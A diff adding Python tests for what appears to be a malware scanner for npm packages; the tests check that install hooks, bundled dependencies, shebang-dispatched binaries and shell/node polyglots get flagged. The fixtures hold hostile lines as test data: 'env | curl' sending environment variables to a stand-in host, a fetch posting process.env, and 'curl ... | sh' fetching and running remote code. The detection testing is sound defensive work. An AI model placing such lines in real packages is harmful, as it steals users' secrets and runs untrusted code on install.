@@ -11,7 +11,7 @@ from pratique.analysis.job import FactsKey
 from pratique.analysis.reading import open_part, read_contents, unread
 from pratique.archive import DEFAULT_LIMITS
 from pratique.core.tree import Tree
-from tests.analysis.inspecting import _part, npm, package_json, wheel
+from tests.analysis.inspecting import _part, npm, of_rule, package_json, wheel
 from tests.builders import tgz, zipped
 
 
@@ -293,3 +293,58 @@ def test_one_whose_numbers_are_long_is_read() -> None:
     files = {"index.js": "require('./lib')", "lib/package.json": '{"main": "e", "z": ' + "1" * 5000 + "}"}
 
     assert () == npm(files).inspection.unread
+
+
+SENDS = "env | curl -d @- https://collector.invalid/in"
+
+
+@pytest.mark.parametrize("command", ["npm run b", "npm --prefix . t", "node i.js"])
+def test_scripts_that_a_hook_has_npm_run_are_told_with_it(command: str) -> None:
+    code = "require('child_process').execSync('npm run b')"
+    manifest = package_json(scripts={"postinstall": command, "b": SENDS, "test": SENDS})
+    assert of_rule(npm({"package.json": manifest, "index.js": "1", "i.js": code}), "attack-chain")
+    unasked = package_json(scripts={"postinstall": "node -v", "b": SENDS, "test": SENDS})
+    assert not of_rule(npm({"package.json": unasked, "index.js": "1", "i.js": code}), "attack-chain")
+
+
+@pytest.mark.parametrize("bundled", [["dep"], []])
+def test_hooks_of_a_bundled_package_are_told_in_its_manifest(bundled: list[str]) -> None:
+    inner = package_json(name="dep", scripts={"install": SENDS})
+    files = {
+        "package.json": package_json(bundleDependencies=bundled, dependencies={"dep": "1.0.0"}),
+        "index.js": "1",
+        "node_modules/dep/package.json": inner,
+    }
+    found = of_rule(npm(files), "attack-chain")
+    assert bool(bundled) == bool(found), "npm runs them where a list names any"
+    assert not found or "node_modules/dep/package.json" == found[0].locations[0].path
+
+
+@pytest.mark.parametrize("name", ["e.py", "e.sh", "e.d.ts", "e.pyx", "e.bat", "e.js"])
+def test_a_program_is_read_as_its_first_line_says_whatever_its_name(name: str) -> None:
+    manifest = package_json(bin={"a": name})
+    attack = "fetch('https://far.invalid', {method: 'POST', body: JSON.stringify(process.env)})\n"
+    files = {"package.json": manifest, "index.js": "1", name: "#!/usr/bin/env node\n" + attack}
+    assert "network (called)" in npm(files).inspection.capabilities
+    if not name.endswith(".js"):
+        assert "network (called)" not in npm({**files, name: "#!/usr/bin/perl\n"}).inspection.capabilities
+
+
+def test_a_script_of_node_that_a_shell_carries_out_is_read_as_both_do() -> None:
+    polyglot = f"#!/bin/sh\n':' /*\n{SENDS}\nexit\n*/\nconsole.log(1)\n"
+    files = {"package.json": package_json(bin={"a": "e.js"}), "index.js": "1", "e.js": polyglot}
+    assert of_rule(npm(files), "attack-chain")
+    assert not of_rule(npm({**files, "e.js": "#!/usr/bin/env node" + polyglot[9:]}), "attack-chain")
+
+
+@pytest.mark.parametrize(
+    "command", ["node -v", "sh index.js", "python index.js || true", "sh index.js; python index.js"]
+)
+def test_a_hook_that_hands_code_to_another_program_hides_nothing_of_it(command: str) -> None:
+    attack = "require('child_process').exec('curl https://far.invalid/a | sh');\n"
+    files = {
+        "package.json": package_json(main="index.js", scripts={"postinstall": command}),
+        "index.js": attack,
+    }
+    assert of_rule(npm(files), "attack-chain")
+    assert not of_rule(npm({**files, "index.js": "module.exports = 1\n"}), "attack-chain")
